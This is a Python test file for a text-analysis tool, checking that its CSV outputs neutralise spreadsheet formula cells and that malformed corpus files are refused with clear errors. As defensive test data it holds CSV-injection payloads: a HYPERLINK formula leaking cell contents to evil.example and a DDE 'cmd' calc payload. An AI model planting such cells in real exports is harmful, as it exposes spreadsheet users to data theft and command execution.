"""Issue 21, reproduced: hostile corpus tables and formula cells in the written CSVs.

A spreadsheet runs a cell beginning with ``=``, ``+``, ``-``, ``@`` (tab, carriage return) as a formula; every
CSV framing writes neutralises such text cells with a leading ``'`` (README: Formula cells). Corpus tables that
are not what they seem (a column twice, a JSON object as the text, NUL characters, cp1252, ``;`` separators)
are refused with the row, or read like a ``.txt`` would be.
"""

from __future__ import annotations

import codecs
import csv
import json
import os
import re
import warnings

import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import framing.corpus.encoding
from framing.cli import main
from framing.corpus.records import read_records
from framing.errors import FramingError, FramingWarning
from framing.report.formula_cells import FORMULA_PREFIXES, neutralise_formulas

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CALC = "+1+cmd|' /C calc'!A0"


def recover(cell: str) -> str:
    """The README's rule for a program reading framing's CSVs: the true text of a written cell."""
    return cell[1:] if re.match(r"'+[=+\-@\t\r]", cell) else cell


def write_csv(path, rows, header=("id", "outlet", "text")):
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


NUMBER = re.compile(r"-?(\d+\.?\d*|\.\d+)(e[-+]?\d+)?")


def formula_cells(folder) -> dict[str, list[str]]:
    """Every text cell of every CSV under ``folder`` that a spreadsheet would run as a formula, by file (a
    negative number is a number)."""
    found = {}
    for path in sorted(folder.rglob("*.csv")):
        with path.open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row
                     if cell.startswith(FORMULA_PREFIXES) and not NUMBER.fullmatch(cell)]
        if cells:
            found[path.name] = cells
    return found


# --- 1. formula injection ----------------------------------------------------------------------------------------

def test_text_cells_are_neutralised_and_numbers_are_not():
    table = pd.DataFrame({"doc_id": ["=a", "b", "'=c", "@d"], "text": ["-x", "\tTab", "\rCR", "plain"],
                          "compound": [-0.5, 0.1, -1.0, 0.0], "mixed": ["-1", 2, None, "+"]})
    written, changed = neutralise_formulas(table)
    assert written["doc_id"].tolist() == ["'=a", "b", "''=c", "'@d"]
    assert written["text"].tolist() == ["'-x", "'\tTab", "'\rCR", "plain"]
    assert written["compound"].tolist() == [-0.5, 0.1, -1.0, 0.0]  # a negative number is a number
    assert written["mixed"].tolist()[:2] == ["'-1", 2] and written["mixed"].tolist()[3] == "'+"
    assert changed == 8
    assert table["doc_id"].tolist() == ["=a", "b", "'=c", "@d"], "the table in memory keeps the true text"
    assert [recover(cell) for cell in written["doc_id"]] == table["doc_id"].tolist()


def test_a_table_without_formula_cells_is_written_unchanged():
    table = pd.DataFrame({"doc_id": ["a"], "text": ["The regime said so."], "neg": [-0.2]})
    written, changed = neutralise_formulas(table)
    assert written is table and changed == 0


def test_column_names_are_neutralised_too():
    written, changed = neutralise_formulas(pd.DataFrame({"=cmd": ["x"], "text": ["y"]}))
    assert list(written.columns) == ["'=cmd", "text"] and changed == 1


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """One CLI run over a corpus table whose ids, metadata and texts begin like formulas, written twice."""
    root = tmp_path_factory.mktemp("hostile")
    corpus = write_csv(root / "export.csv", [
        ("=1+1", HYPERLINK, f"{HYPERLINK} said the regime was finished. Officials gave no date."),
        ("@SUM(A1)", CALC, f"{CALC}\n\n-2 soldiers were killed, the ministry said. The talks will resume."),
        ("plain", "Bugle", "The regime denied it on Monday. A spokesman declined to comment."),
    ])
    results = []
    for name in ("first", "second"):
        result = CliRunner().invoke(main, ["analyze", str(corpus), "--meta-columns", "outlet",
                                           "--out", str(root / name)])
        assert result.exit_code == 0, result.output
        results.append(result)
    return root, results


def test_formula_cells_from_the_reported_corpus_are_neutralised_in_every_csv(hostile_run):
    root, _ = hostile_run
    assert formula_cells(root / "first") == {}
    documents = pd.read_csv(root / "first" / "documents.csv", keep_default_na=False)
    assert documents["doc_id"].tolist() == ["'=1+1", "'@SUM(A1)", "plain"]
    assert documents["outlet"].tolist() == [f"'{HYPERLINK}", f"'{CALC}", "Bugle"]
    sentences = pd.read_csv(root / "first" / "sentences.csv", keep_default_na=False)
    assert sentences["text"].str.startswith("'-2 soldiers").any()
    assert sentences["text"].map(recover).str.startswith("-2 soldiers").any()


def test_formula_cells_warn_once_naming_the_count_and_the_files(hostile_run):
    _, results = hostile_run
    lines = [line for line in results[0].stderr.splitlines() if "cell(s) began with" in line]
    assert len(lines) == 1
    assert re.match(r"warning: \d+ cell\(s\) began with =, \+, -, @, a tab or a carriage return and were "
                    r"written with a leading ' .*\(documents\.csv \d+, sentences\.csv \d+", lines[0])


def test_the_report_keeps_the_true_text_and_reruns_are_identical(hostile_run):
    root, _ = hostile_run
    assert "=HYPERLINK(" in (root / "first" / "report.html").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" not in (root / "first" / "report.html").read_text(encoding="utf-8")
    for path in sorted((root / "first").rglob("*.csv")):
        assert path.read_bytes() == (root / "second" / path.name).read_bytes(), path.name


# --- 7. columns twice, JSON that is not text, NUL characters ----------------------------------------------------

def test_a_column_given_twice_is_refused(tmp_path):
    path = write_csv(tmp_path / "c.csv", [("a", "Text one.", "x", "b")], header=("id", "text", "outlet", "id"))
    with pytest.raises(FramingError, match=r"c\.csv: row 1: column 'id' appears 2 times \(columns 1, 4\)"):
        list(read_records(path))


def test_unread_repeated_columns_are_harmless(tmp_path):
    path = write_csv(tmp_path / "c.csv", [("a", "Text one.", "", "")], header=("id", "text", "", ""))
    assert [r["doc_id"] for r in read_records(path)] == ["a"]


@pytest.mark.parametrize(("row", "problem"), [
    ({"id": "a", "text": {"body": "The regime fell."}}, "line 1: 'text' is a JSON object, not text"),
    ({"id": ["d", "2"], "text": "The regime fell."}, "line 1: 'id' is a JSON list, not text or a number"),
    ({"id": "a", "text": 17}, "line 1: 'text' is the int 17, not text"),
])
def test_jsonl_text_or_id_that_is_not_text_is_refused(tmp_path, row, problem):
    path = tmp_path / "c.jsonl"
    path.write_text(json.dumps(row) + "\n", encoding="utf-8")
    with pytest.raises(FramingError, match=re.escape(problem)):
        list(read_records(path))


def test_jsonl_key_given_twice_is_refused(tmp_path):
    path = tmp_path / "c.jsonl"
    path.write_text('{"id": "a", "text": "One.", "text": "Two."}\n', encoding="utf-8")
    with pytest.raises(FramingError, match=r"c\.jsonl:1: key 'text' appears twice in one object"):
        list(read_records(path))


def test_json_given_as_json_lines_is_told_to_be_named_json(tmp_path):
    rows = [{"id": "a1", "text": "One."}, {"id": "a2", "text": "Two."}]
    path = tmp_path / "c.jsonl"
    path.write_text(json.dumps(rows) + "\n", encoding="utf-8")
    with pytest.raises(FramingError, match=r"c\.jsonl:1: holds a JSON array, not one object per line \(JSON Lines\): "
                                           r"name the file \.json to read it as one$"):
        list(read_records(path))
    path.write_text(json.dumps(rows, indent=2) + "\n", encoding="utf-8")
    with pytest.raises(FramingError, match=r"c\.jsonl:1: not valid JSON \(Expecting value, column 2\); the file looks "
                                           r"like JSON written over many lines, not JSON Lines \(one object per line\): "
                                           r"name it \.json$"):
        list(read_records(path))
    # As the messages say: the same file named .json is read.
    renamed = path.rename(tmp_path / "c.json")
    assert [record["doc_id"] for record in read_records(renamed)] == ["a1", "a2"]
    path.write_text('{"id": "a1", "text": "One."}\n{"id": "a2", "text": \n', encoding="utf-8")
    with pytest.raises(FramingError) as error:  # a broken line of JSON Lines gets no such hint
        list(read_records(path))
    assert str(error.value).endswith("c.jsonl:2: not valid JSON (Expecting value, column 22)")


def test_nul_in_a_csv_cell_is_refused_with_the_row(tmp_path):
    path = write_csv(tmp_path / "c.csv", [("a", "x", "Fine."), ("b", "x", "The regime\x00 fell.")])
    with pytest.raises(FramingError, match=r"row 3: 'text' holds a NUL character"):
        list(read_records(path))


def test_nul_row_can_be_skipped(tmp_path):
    path = write_csv(tmp_path / "c.csv", [("a", "x", "Fine."), ("b", "x\x00", "Also fine.")])
    with pytest.warns(FramingWarning, match=r"row 3: 'outlet' holds a NUL character"):
        records = list(read_records(path, meta_columns=("outlet",), skip_bad_rows=True))
    assert [r["doc_id"] for r in records] == ["a"]


# --- a quote never closed ------------------------------------------------------------------------------------

def test_a_stray_opening_quote_is_refused_instead_of_swallowing_the_later_rows(tmp_path):
    # csv's non-strict reader would return rows a1 and a2, a2's text holding every later line (a3 … a5).
    path = tmp_path / "c.csv"
    path.write_text('id,text\na1,"First.\n\nSecond."\na2,"He said it\na3,Third.\na4,Fourth.\na5,Fifth.\n',
                    encoding="utf-8")
    with pytest.raises(FramingError, match=r"c\.csv: row 3 \(line 5\): a cell opened with a quote \(\"\) is "
                                           r"never closed, .* to the end of the file"):
        list(read_records(path))


@pytest.mark.parametrize("ending", ["", "\n", "\n\n\n", "\r\n"])
def test_closed_quotes_at_the_end_of_the_file_are_read(tmp_path, ending):
    path = tmp_path / "c.csv"
    text = f'id,text\na1,One.\na2,"Two lines,\nclosed."{ending}'
    path.write_bytes(text.replace("\n", "\r\n").encode() if ending == "\r\n" else text.encode())
    records = list(read_records(path))
    assert [r["doc_id"] for r in records] == ["a1", "a2"]
    assert records[1]["raw_text"].replace("\r\n", "\n") == "Two lines,\nclosed."


def test_a_quote_inside_an_unquoted_cell_is_text(tmp_path):
    # Only a quote that opens a cell starts a quoted cell; one inside is text (as spreadsheets read it).
    path = tmp_path / "c.csv"
    path.write_text('id,text\na1,He said "no.\na2,Two.\n', encoding="utf-8")
    assert [r["raw_text"] for r in read_records(path)] == ['He said "no.', "Two."]


def test_an_unclosed_quote_in_the_last_row_stops_the_run_before_scoring(tmp_path):
    rows = "".join(f"a{i},Sentence number {i} is here.\n" for i in range(300))
    path = tmp_path / "export.csv"
    path.write_text("id,text\n" + rows + 'a300,"Never closed.\n', encoding="utf-8")
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["analyze", str(path), "--out", str(out), "--jobs", "1"])
    assert result.exit_code == 1
    assert "export.csv: row 302 (line 302): a cell opened with a quote" in result.stderr
    assert "Traceback" not in result.output
    assert not out.exists()


# --- 8. encodings and separators ---------------------------------------------------------------------------------

def test_cp1252_csv_is_read_like_a_cp1252_txt(tmp_path):
    path = tmp_path / "c.csv"
    path.write_bytes("id,text\na,He called it a \u201cmassacre\u201d.\n".encode("cp1252"))
    with pytest.warns(FramingWarning, match=r"c\.csv: not valid UTF-8; read as cp1252 \(save as UTF-8"):
        records = list(read_records(path))
    assert records[0]["raw_text"] == "He called it a \u201cmassacre\u201d."


def test_cp1252_jsonl_is_read_with_the_same_warning(tmp_path):
    path = tmp_path / "c.jsonl"
    path.write_bytes('{"id": "a", "text": "caf\u00e9"}\n'.encode("cp1252"))
    with pytest.warns(FramingWarning, match="not valid UTF-8; read as cp1252"):
        assert next(read_records(path))["raw_text"] == "caf\u00e9"


@pytest.mark.parametrize("chunk", [4, 5, 7, 1 << 20])
def test_broken_utf8_after_a_mark_names_the_right_byte_whatever_the_chunk(tmp_path, monkeypatch, chunk):
    monkeypatch.setattr(framing.corpus.encoding, "CHUNK_BYTES", chunk)
    path = tmp_path / "c.csv"
    valid = "id,text\na,caf\u00e9 \u2013 ".encode("utf-8")  # multi-byte characters the chunks may cut
    path.write_bytes(codecs.BOM_UTF8 + valid + b"\x93quoted\x94\n")
    offset = len(codecs.BOM_UTF8) + len(valid)
    with pytest.raises(FramingError, match=f"starts with a UTF-8 byte order mark but byte {offset} is not UTF-8"):
        list(read_records(path))
    assert path.read_bytes()[offset] == 0x93


def test_utf16_csv_is_read(tmp_path):
    path = tmp_path / "c.csv"
    path.write_bytes("id,text\na,caf\u00e9 talks.\n".encode("utf-16"))
    with warnings.catch_warnings():
        warnings.simplefilter("error", FramingWarning)
        assert next(read_records(path))["raw_text"] == "caf\u00e9 talks."


SEPARATED = "id{0}text{0}outlet\na1{0}He said, so it rained.{0}Bugle\na2{0}Officials met.{0}Planet\n"


@pytest.mark.parametrize(("separator", "advice"), [
    (";", "looks like ';'-separated; framing reads comma-separated CSV"),
    ("\t", "looks like tab-separated; framing reads a .csv as comma-separated — name it .tsv"),
    ("|", "looks like '|'-separated; framing reads comma-separated CSV")])
def test_other_separators_get_a_hint(tmp_path, separator, advice):
    # The reported case: a comma in a text makes "more cells than the header" (which has one column).
    path = tmp_path / "c.csv"
    path.write_text(SEPARATED.format(separator), encoding="utf-8")
    with pytest.raises(FramingError, match=r"row 2 has more cells than the header \(1 columns\); "
                                           + re.escape(advice)):
        list(read_records(path))


def test_a_tsv_is_read_as_tab_separated(tmp_path):
    path = tmp_path / "c.tsv"
    path.write_text(SEPARATED.format("\t"), encoding="utf-8")
    records = list(read_records(path, meta_columns=("outlet",)))
    assert [(r["doc_id"], r["raw_text"], r["outlet"]) for r in records] == [
        ("a1", "He said, so it rained.", "Bugle"), ("a2", "Officials met.", "Planet")]
    assert records[1]["path"].endswith("c.tsv:row 3")
    path.write_text("id\ttext\na1\tOne.\tstray\n", encoding="utf-8")
    with pytest.raises(FramingError) as error:  # a .tsv gets no separator hint
        list(read_records(path))
    assert "row 2 has more cells than the header (2 columns)" in str(error.value)
    assert "separated" not in str(error.value)


def test_semicolon_csv_without_commas_gets_the_hint_with_the_missing_columns(tmp_path):
    path = tmp_path / "c.csv"
    path.write_text("id;text;outlet\na1;He said so.;Bugle\na2;Rain fell.;Planet\n", encoding="utf-8")
    with pytest.raises(FramingError, match=r"no column 'text' \(columns: id;text;outlet\); .*looks like "
                                           "';'-separated"):
        list(read_records(path))


def test_a_comma_csv_gets_no_separator_hint(tmp_path):
    path = write_csv(tmp_path / "c.csv", [("a1", "x; y; z", "Text; more; text.", "extra")])
    with pytest.raises(FramingError) as error:
        list(read_records(path))
    assert "separated" not in str(error.value)


# --- the property: no crash, no formula left -------------------------------------------------------------------

# A whole analysis per example: a fifth of test_fuzz.py's count keeps this to a few seconds.
EXAMPLES = max(1, int(os.environ.get("FUZZ_EXAMPLES", "150")) // 8)
FUZZ = settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[
    HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
HOSTILE = ["=", "+", "-", "@", "\t", "\r", "'", '"', "\n", "\r\n", ",", ";", "\x00", "=HYPERLINK(\"x\")",
           "+1+cmd|' /C calc'!A0", "-2", "@SUM(A1)", "The regime said so.", "Officials denied it.", " ", "é",
           "\u201c", "x" * 5000]
cells = st.lists(st.one_of(st.sampled_from(HOSTILE), st.text(max_size=4)), max_size=6).map("".join)
rows = st.lists(st.tuples(cells, cells, cells), min_size=1, max_size=4)


@FUZZ
@given(rows=rows)
def test_hostile_csv_corpora_never_crash_and_leave_no_formula(tmp_path_factory, rows):
    from framing.pipeline import TableOptions, analyze
    from framing.report.formula_cells import write_csv_table
    from framing.report.write import analysis_tables

    folder = tmp_path_factory.mktemp("fuzz")
    path = tmp_path_factory.mktemp("corpus") / "export.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "outlet", "text"])
        writer.writerows([(f"{doc_id}{number}", outlet, text) for number, (doc_id, outlet, text)
                          in enumerate(rows)])
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", FramingWarning)
        try:
            analysis = analyze(path, table=TableOptions(meta_columns=("outlet",), skip_bad_rows=True))
        except FramingError as error:
            assert "\n" not in str(error).strip(), error
            return
    for name, table in analysis_tables(analysis).items():
        write_csv_table(folder / name, table)
    assert formula_cells(folder) == {}
    documents = pd.read_csv(folder / "documents.csv", keep_default_na=False, dtype=str)
    assert documents["doc_id"].map(recover).tolist() == analysis.documents["doc_id"].tolist()
